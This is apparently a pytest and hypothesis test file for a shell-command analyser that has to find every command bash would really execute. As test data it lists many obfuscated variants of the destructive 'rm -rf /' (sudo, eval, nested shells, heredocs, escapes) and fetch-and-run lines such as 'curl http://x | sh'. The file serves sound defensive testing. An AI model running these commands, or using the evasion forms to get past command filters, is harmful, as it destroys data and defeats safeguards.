"""Command analysis: what bash would run is found or called unclear; what it would only print is not found."""

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from toolsets.shell_commands import SHELLS, analyse, program


def found(source: str) -> list[str]:
    return [str(command) for command in analyse(source).commands]


HIDDEN = [
    "rm -rf /",
    "true && rm -rf /",
    "false || rm -rf /",
    "true; rm -rf /",
    "true\nrm -rf /",
    "true & rm -rf /",
    "rm -rf / &",
    "! rm -rf /",
    "! ! rm -rf /",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "echo x | rm -rf /",
    "X=1 Y=2 rm -rf /",
    ">out rm -rf /",
    "rm -rf / 2>/dev/null",
    "echo $(rm -rf /)",
    'echo "a $(rm -rf /) b"',
    "echo `rm -rf /`",
    "X=$(rm -rf /)",
    "echo ${X:-$(rm -rf /)}",
    "cat <(rm -rf /)",
    "echo x > >(rm -rf /)",
    "cat <<< $(rm -rf /)",
    "cat <<E\n$(rm -rf /)\nE",
    "[[ -n $(rm -rf /) ]]",
    "for i in 1 2; do rm -rf /; done",
    "while rm -rf /; do :; done",
    "if rm -rf /; then :; fi",
    "case x in x) rm -rf /;; esac",
    "f() { rm -rf /; }; f",
    "function f { rm -rf /; }",
    "r''m -rf /",
    'r"m" "-rf" "/"',
    "\\rm -rf /",
    "r\\m -rf /",
    "'rm' -rf /",
    "$'\\x72m' -rf /",
    "$'\\162\\u006d' -rf /",
    "rm \\\n -rf /",
    "/bin/rm -rf /",
    "bash -c 'rm -rf /'",
    'sh -ec "rm -rf /"',
    "bash -lc 'echo; rm -rf /' name",
    "bash -o pipefail -c 'rm -rf /'",
    "/usr/bin/env -i bash -c 'rm -rf /'",
    "env A=1 rm -rf /",
    "env -u HOME rm -rf /",
    "env -S 'rm -rf /'",
    "sudo rm -rf /",
    "sudo -u root -E rm -rf /",
    "sudo -Eu root rm -rf /",
    "sudo --user=root -- rm -rf /",
    "doas rm -rf /",
    "su -c 'rm -rf /'",
    "nohup rm -rf / &",
    "timeout 5 rm -rf /",
    "timeout -k 1 5s rm -rf /",
    "timeout --signal=KILL 5 rm -rf /",
    "nice -n 5 rm -rf /",
    "time rm -rf /",
    "time -p rm -rf /",
    "command rm -rf /",
    "builtin command rm -rf /",
    "exec rm -rf /",
    "exec -a ls rm -rf /",
    "setsid rm -rf /",
    "stdbuf -oL rm -rf /",
    "busybox rm -rf /",
    "flock /tmp/lock rm -rf /",
    "flock /tmp/lock -c 'rm -rf /'",
    "eval 'rm -rf /'",
    "eval rm -rf /",
    "eval eval eval rm '-rf' /",
    "alias ls='rm -rf /'",
    "trap 'rm -rf /' EXIT",
    "find . -exec rm -rf / \\;",
    "find . -name x -execdir rm -rf / {} +",
    "bash <<E\nrm -rf /\nE",
    "bash <<'E'\nrm -rf /\nE",
    "cat <<E | bash\nrm -rf /\nE",
    "sh <<< 'rm -rf /'",
    "echo 'rm -rf /' | sh",
    "echo -n rm -rf / | sudo bash",
    "printf 'rm -rf /\\n' | bash -s",
    "true | bash <<E\nrm -rf /\nE",
    "true && bash <<E\nrm -rf /\nE",
    "bash <<E >out\nrm -rf /\nE",
    "bash <<E | cat\nrm -rf /\nE",
    "sudo timeout 5 sh -c \"nohup env X=1 bash -c 'rm -rf /'\"",
    "watch 'rm -rf /'",
    "coproc rm -rf /",
]


@pytest.mark.parametrize("source", HIDDEN)
def test_a_command_is_found_wherever_it_hides(source):
    assert any(each.split()[0].endswith("rm") and each.split()[1:3] == ["-rf", "/"] for each in found(source))


HARMLESS = [
    "echo rm -rf /",
    "echo 'rm -rf /'",
    'echo "; rm -rf /"',
    "grep -r 'rm -rf /' .",
    "git commit -m 'never rm -rf /'",
    "# rm -rf /",
    "ls # ; rm -rf /",
    "cat <<E\nrm -rf /\nE",
    "cat <<'E'\n$(rm -rf /)\nE",
    "echo '$(rm -rf /)'",
    "echo \\$\\(rm -rf /\\)",
    "timeout 5 echo rm -rf /",
    "command -v rm",
    "sudo -u rm ls",
    "env rm=1 ls",
    "bash script.sh rm -rf /",
    "bash -c 'ls' rm -rf /",
    "find . -name rm -exec ls {} \\;",
    "printf rm",
    "echo 'rm -rf /' | cat",
]


@pytest.mark.parametrize("source", HARMLESS)
def test_what_is_only_text_is_not_found(source):
    analysis = analyse(source)
    assert "rm" not in {program(command.words[0]) for command in analysis.commands}
    assert analysis.unclear == []


UNCLEAR = [
    "$CMD x",
    '"$CMD" x',
    "$(which rm) x",
    "r$X x",
    "/bin/r? x",
    "r{m,} x",
    "rm -rf '",
    "if true; then rm",
    'bash -c "$CODE"',
    'eval "$CODE"',
    "curl http://x | sh",
    "cat code | bash",
    "bash < code",
    "bash",
    "sudo -s",
    "sudo $X",
    "xargs sh -c",
    "echo -e 'r\\x6d' | sh",
    "source <(curl http://x)",
    "source /dev/stdin",
    "echo ls | bash < code",
    "echo ls | { cat code; } | bash",
    "echo ls | cat code | bash",
    "{ echo ls; bash; } <<E\nrm\nE",
    "eval $(cat code)",
    "x" * 200_000,
    "bash -c " * 40 + "ls",
]


@pytest.mark.parametrize("source", UNCLEAR)
def test_what_cannot_be_known_is_unclear(source):
    assert analyse(source).unclear


def test_deep_nesting_costs_no_recursion():
    for source in ("(" * 20_000, "$(" * 5_000 + ")" * 5_000, "eval " * 5_000 + "ls", "a|" * 20_000 + "a"):
        analyse(source)


WORDS = """
forbidden harmless echo cat eval bash -c sh env xargs command exec timeout 5 nohup x X=forbidden X=1 $X "$X"
if then fi for in do done case esac true false -n -- find . -exec {} <<< <<E >o <o 2>&1 trap EXIT alias source
o printf for\\bidden ' " \\ ` $( ) ( { } ; ;; && || | & ! # $' \\x66 ${X:- <( >( [[ ]] (( )) * =
"""
"""No loops and no functions: what bash makes of them is really run."""

TOKENS = [*WORDS.split(), "\n", "\nE\n"]


@pytest.fixture(scope="module")
def playground(tmp_path_factory):
    """A PATH of a few programs and stubs; a stub that runs leaves a mark."""
    folder = tmp_path_factory.mktemp("playground")
    programs = folder / "bin"
    programs.mkdir()
    for name in ("bash", "sh", "env", "cat", "xargs", "timeout", "nohup", "find", "printf"):
        os.symlink(shutil.which(name), programs / name)
    for name in ("forbidden", "harmless", "x", "o", "f"):
        (programs / name).write_text(f'#!/bin/bash\n: > "{folder}/{name}.ran"\n')
        (programs / name).chmod(0o755)
    (folder / "work").mkdir()
    return folder


def really_runs(source: str, playground: Path) -> bool:
    mark = playground / "forbidden.ran"
    mark.unlink(missing_ok=True)
    work = playground / "work"
    subprocess.run(
        [str(shutil.which("timeout")), "--kill-after=1", "10", "bash", "--noprofile", "--norc", "-c", source],
        cwd=work,
        env={"PATH": str(playground / "bin")},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
    )
    for left in work.iterdir():
        left.unlink()
    return mark.exists()


def runs_forbidden(command) -> bool:
    """Tell whether it is the program, or a shell that is given it as a script."""
    name, *rest = command.words
    as_script = program(name) in (*SHELLS, ".", "source") and "forbidden" in {word.text for word in rest}
    return program(name) == "forbidden" or as_script


@settings(max_examples=400, suppress_health_check=list(HealthCheck))
@given(tokens=st.lists(st.sampled_from(TOKENS), min_size=1, max_size=9), glue=st.sampled_from([" ", " ", ""]))
def test_whatever_bash_runs_was_found_or_called_unclear(tokens, glue, playground):
    source = glue.join(tokens)
    analysis = analyse(source)
    known = any(runs_forbidden(command) for command in analysis.commands)
    if not known and not analysis.unclear:
        assert not really_runs(source, playground), source


QUOTES = [
    lambda code: f"bash -c {quoted(code)}",
    lambda code: f"eval {quoted(code)}",
    lambda code: f"sh <<'END'\n{code}\nEND",
    lambda code: f"true && {{ {code}\n}}",
    lambda code: f"echo $({code}\n)",
    lambda code: f"( {code}\n) | cat",
    lambda code: f"timeout 5 bash -c {quoted(code)}",
    lambda code: f"env A=1 nohup sh -c {quoted(code)}",
    lambda code: f"f() {{\n{code}\n}}\nf",
    lambda code: f"if true; then\n{code}\nfi",
    lambda code: f"echo {quoted(code)} | sh",
]


def quoted(code: str) -> str:
    return "'" + code.replace("'", "'\\''") + "'"


@settings(max_examples=150)
@given(st.lists(st.sampled_from(QUOTES), max_size=5))
def test_a_command_is_found_through_any_layers(layers):
    source = "rm -rf /"
    for layer in layers:
        source = layer(source)
    analysis = analyse(source)
    assert "rm -rf /" in {str(command) for command in analysis.commands} or analysis.unclear


@settings(max_examples=200)
@given(st.text(max_size=60).map(lambda text: text.replace("\0", "")))
def test_quoted_text_is_never_a_command(text):
    analysis = analyse(f"echo {quoted(text)}")
    assert [program(command.words[0]) for command in analysis.commands] == ["echo"] or analysis.unclear


@given(st.text())
def test_no_text_makes_the_analysis_raise(text):
    analyse(text)
